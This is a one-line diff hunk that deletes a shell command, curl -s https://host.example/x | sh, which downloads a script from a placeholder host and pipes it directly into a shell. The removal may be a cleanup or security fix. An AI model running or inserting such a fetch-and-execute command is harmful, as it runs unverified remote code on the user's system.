@@ -1,1 +1,0 @@
-curl -s https://host.example/x | sh
